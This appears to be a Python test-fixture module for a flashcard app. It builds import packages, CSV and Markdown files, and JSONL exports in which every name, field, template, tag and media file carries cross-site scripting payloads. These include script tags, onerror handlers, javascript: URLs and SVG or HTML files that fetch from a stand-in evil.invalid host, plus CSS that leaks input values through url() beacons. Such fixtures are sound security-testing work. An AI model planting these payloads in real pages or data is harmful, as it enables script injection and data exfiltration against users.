"""Packages and texts with script in every place where a string can stand."""

import html
import json
import sqlite3
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from quizapp.formats import jsonl
from quizapp.formats.package import Package, PackedDeck, PackedNote
from tests.packages import DECKS, TYPE, field, make_package, number
from tests.vectors import VECTORS

ACT = '"><script>x()</script><img/src=x/onerror=x()>'
# One word of a thousand letters, so that nothing gives way by itself.
WIDE = "W" * 1_000
SHEETS = [
    "</style><script>x()</script>@import url(//evil.invalid/1);",
    "body{background:u\\72l(//evil.invalid/2)}p{background:image-set('//evil.invalid/3' 1x)}",
    "@font-face{font-family:a;src:url(https://evil.invalid/4)}*{font-family:a}",
    "*{position:fixed;inset:0;z-index:2147483647;width:99999px;height:99999px;cursor:none}",
    "html,body{width:90000px;min-width:100vw;margin:-5000px}",
    "input[value^='a']{background:url(//evil.invalid/5?a)}:root{--x:url(//evil.invalid/6)}",
    "@namespace url(//evil.invalid/7);a{behavior:url(x.htc);-moz-binding:url(//evil.invalid/8)}",
    "/*</style>*/}}}<!--<script>x()</script>-->",
]
MEDIA = {
    "evil.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="top.x()"><script>top.x();'
    b'fetch("//evil.invalid/svg")</script><image href="//evil.invalid/i"/></svg>',
    "page.png": b"<!doctype html><script>top.x();fetch('//evil.invalid/png')</script>",
    "page.mp3": b"<html><body onload='top.x()'><script src=//evil.invalid/mp3></script>",
    "page.svg": b"<?xml version='1.0'?><?xml-stylesheet href='//evil.invalid/xsl'?><html "
    b"xmlns='http://www.w3.org/1999/xhtml'><script>top.x()</script></html>",
    "_evil.css": b"@import url(//evil.invalid/css);",
    "_evil.js": b"top.x()",
    "a'onerror=x() b.png": b"\x89PNG\r\n\x1a\n" + bytes(60),
}
IN_FIELDS = [
    '<img src="evil.svg"><img src="page.png"><img src="page.svg">',
    '<object data="evil.svg"></object><embed src="page.svg"><iframe src="evil.svg"></iframe>',
    '<a href="evil.svg">a</a><a href="/media/evil.svg" target="_top">b</a>',
    "[sound:page.mp3][sound:evil.svg]",
    '<script src="_evil.js"></script><link rel="stylesheet" href="_evil.css">',
    '<img src="a\'onerror=x() b.png">',
    f"<pre>{WIDE}</pre><table><td>{WIDE}</td></table>{WIDE}",
    '<div style="width:90000px;margin-left:-9000px;position:absolute;top:-900px">a</div>',
    "{{c1::<script>x()</script>::<img src=x onerror=x()>}}",
]
EVERYTHING = [*VECTORS, *IN_FIELDS]
_COLUMNS = "(id, guid, mid, mod, usn, tags, flds, sfld, csum, flags, data)"


def one_word(vector: str) -> str:
    """A vector as a tag can hold it."""
    return "/".join(vector.split()) or "tag"


def package(path: Path) -> int:
    """A package with every vector as a field and in a template, and all names made to act.

    Returns how many cards it holds.
    """
    notes: list[tuple[int, int, str, str, str]] = []  # id, type, guid, tags, fields
    cards: list[tuple[int, int, int, int]] = []  # id, note, deck, ord
    taken = iter(range(1_752_900_000_000, 1_752_900_999_999))

    def add(type_: int, fields: Sequence[str], ords: int, tags: str, guid: str) -> None:
        note = next(taken)
        notes.append((note, type_, guid, tags, "\x1f".join(fields)))
        for ord_ in range(ords):
            cards.append((next(taken), note, DECKS[len(cards) % 2], ord_))

    def spoil(db: sqlite3.Connection) -> None:
        for table in ("notetypes", "fields", "templates", "notes", "cards"):
            db.execute(f"DELETE FROM {table}")
        plain = [("Card 1", "{{Front}}", "{{FrontSide}}<hr id=answer>{{Back}}")]
        names = ("Front", "Back")
        _type(db, TYPE, f"Plain {ACT}", names, plain, SHEETS[0])
        for n, vector in enumerate(EVERYTHING):
            guid = f"{n} {vector}"[:150]
            add(TYPE, (f"{n} {vector}", vector), 1, f" {one_word(vector)} {ACT[2:]} ", guid)
        for n in range(0, len(EVERYTHING), 10):
            some = EVERYTHING[n : n + 10]
            templates = [
                (f"{i} {ACT}", f"{vector}{{{{Front}}}}", f"{{{{FrontSide}}}}<hr>{vector}")
                for i, vector in enumerate(some)
            ]
            type_ = TYPE + 10 + n
            _type(db, type_, f"{n} {some[0]}", names, templates, SHEETS[n // 10 % len(SHEETS)])
            add(type_, (f"template {n}", "back"), len(some), "", f"template {n}")
        odd = (ACT, "<b onmouseover=x()>name", "javascript:x()", "x</title><script>x()</script>")
        shown = "".join(
            f"{{{{hint:{name}}}}}{{{{type:{name}}}}}{{{{{name}}}}}{{{{#{name}}}}}a{{{{/{name}}}}}"
            f"{{{{tts en_US:{name}}}}}{{{{furigana:{name}}}}}{{{{text:{name}}}}}"
            for name in odd
        )
        special = "{{Tags}}{{Type}}{{Deck}}{{Subdeck}}{{Card}}{{CardFlag}}"
        _type(db, TYPE + 1, "Odd", odd, [("a", shown + special, shown + special)], SHEETS[3])
        for n, vector in enumerate(EVERYTHING[::7]):
            add(TYPE + 1, (vector,) * 4, 1, f" {ACT[2:]} ", f"odd {n}")
        _type(
            db, TYPE + 2, "Cloze", ("Text", "Extra"),
            [("c", "{{cloze:Text}}{{type:cloze:Text}}", "{{cloze:Text}}{{Extra}}")],
            SHEETS[1], kind=1,
        )  # fmt: skip
        for n, vector in enumerate(EVERYTHING[::5]):
            text = f"{{{{c1::{vector}::{vector}}}}} \\({{{{c1::{vector}}}}}\\) {{{{c2::b}}}}"
            add(TYPE + 2, (text, vector), 2, "", f"cloze {n}")
        _type(
            db, TYPE + 3, "Occlusion", ("Occlusion", "Image", "Header", "Back Extra", "Comments"),
            [("o", "{{cloze:Occlusion}}{{Image}}", "{{cloze:Occlusion}}{{Image}}")],
            SHEETS[2], kind=1, stock=6,
        )  # fmt: skip
        for n, vector in enumerate(EVERYTHING[::6]):
            shape = vector.replace(":", "").replace("}", "")
            text = (
                f"{{{{c1::image-occlusion:text:left=.1:top=.1:text={shape}:fill={shape}:oi=1}}}}"
                f"{{{{c1::image-occlusion:polygon:points={shape}:angle={shape}}}}}"
            )
            add(TYPE + 3, (text, f'<img src="evil.svg">{vector}', *(vector,) * 3), 1, "", f"o {n}")
        db.executemany(
            f"INSERT INTO notes {_COLUMNS} VALUES (?, ?, ?, 0, 0, ?, ?, '', 0, 0, '')",
            [(id_, guid, type_, tags, fields) for id_, type_, guid, tags, fields in notes],
        )
        db.executemany(
            "INSERT INTO cards VALUES (?, ?, ?, ?, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, '{}')",
            cards,
        )
        described = field(1, number(1, 1) + field(4, "".join(VECTORS[:40]).encode()))
        for deck, name in zip(DECKS, (ACT, f"{WIDE}\x1f{ACT}\x1fjavascript:x()"), strict=True):
            db.execute("UPDATE decks SET name = ?, kind = ? WHERE id = ?", (name, described, deck))

    make_package(path, 1, media=MEDIA, spoil=spoil)
    return len(cards)


def _type(
    db: sqlite3.Connection,
    id_: int,
    name: str,
    fields: Sequence[str],
    templates: Sequence[tuple[str, str, str]],
    css: str,
    kind: int = 0,
    stock: int = 0,
) -> None:
    config = field(3, css.encode()) + (number(1, kind) if kind else b"")
    config += number(9, stock) if stock else b""
    db.execute("INSERT INTO notetypes VALUES (?, ?, 0, 0, ?)", (id_, name, config))
    for n, each in enumerate(fields):
        db.execute("INSERT INTO fields VALUES (?, ?, ?, ?)", (id_, n, each, field(3, b"Arial")))
    for n, (named, question, answer) in enumerate(templates):
        packed = field(1, question.encode()) + field(2, answer.encode())
        db.execute("INSERT INTO templates VALUES (?, ?, ?, 0, 0, ?)", (id_, n, named, packed))


def _cell(text: str) -> str:
    return '"' + text.replace("\0", "").replace('"', '""') + '"'


def texts() -> dict[str, str]:
    """Text files by hostile names: tables with and without HTML, and Markdown."""
    rows = [f"{_cell(f'{n} {v}')},{_cell(v)}" for n, v in enumerate(EVERYTHING)]
    head = ",".join(_cell(v) for v in ("Front", "Back", ACT, VECTORS[0], WIDE))
    wide = ",".join(_cell(v) for v in EVERYTHING[:30])
    items = "\n\n".join(
        f"Q: {n} {' '.join(v.split())}\nA: {' '.join(v.split())}"
        for n, v in enumerate(v.replace("\0", "") for v in EVERYTHING)
    )
    choices = "\n\n".join(
        f"M: {n} {' '.join(v.split())}\n- [x] {' '.join(v.split())}\n  {' '.join(v.split())}"
        f"\n- [ ] {' '.join(v.split())} b\n  {' '.join(v.split())}"
        for n, v in enumerate(v.replace("\0", "") for v in EVERYTHING[::4])
    )
    return {
        f"{ACT.replace('/', '')}.csv": "#separator:comma\n#html:true\n#deck:" + ACT + "\n"
        "#tags:" + ACT[2:] + "\n" + "\n".join(rows),
        "'onload=x() plain.csv": "#separator:comma\n#html:false\n" + "\n".join(rows),
        "head.csv": f"{head}\na,b,c,d,e\n{wide}\n",
        f"{WIDE[:90]}.md": f"---\nname: {json.dumps(ACT)}\ntopic: {json.dumps(ACT)}\n---\n\n"
        f"# {ACT}\n\n{items}\n\n## {VECTORS[0]}\n\n{choices}\n",
    }


def lines(path: Path) -> None:
    """What this app exports, made by somebody else: notes of every kind, every string acting."""
    more = {"topic": ACT, "reference": ACT, "tags": (ACT[2:],), "where": ACT, "level": ACT}
    notes = []
    for n, vector in enumerate(v.replace("\0", "") for v in EVERYTHING):
        said = f"{n} {vector}"
        option = {"text": said, "correct": True, "rationale": said}
        other = {"text": f"{said} b", "correct": False, "rationale": said}
        fields: dict[str, Any] = [
            {"front": said, "back": said},
            {"front": said, "back": said, "also": [said, vector]},
            {"text": f"The [{vector or 'a'}] and [b] {said}"},
            {"stem": said, "options": [option, other]},
        ][n % 4]
        kind = ("basic", "typed", "cloze", "choice")[n % 4]
        notes.append(
            PackedNote(f"{n} {ACT}", kind, fields, f"{ACT}::d{n % 9}", **more)  # type: ignore[arg-type]
        )
    decks = [PackedDeck(ACT, "".join(VECTORS[:40]).replace("\0", ""), extra={"preset": ACT})]
    jsonl.write(Package("jsonl", [], decks, notes, remarks=[ACT, WIDE]), path)


def pasted() -> str:
    """Pairs for the box of pasted text."""
    found = [" ".join(vector.replace("\0", "").split()) for vector in EVERYTHING]
    return "\n".join(f"{n} {said}\t{html.unescape(said)}" for n, said in enumerate(found))
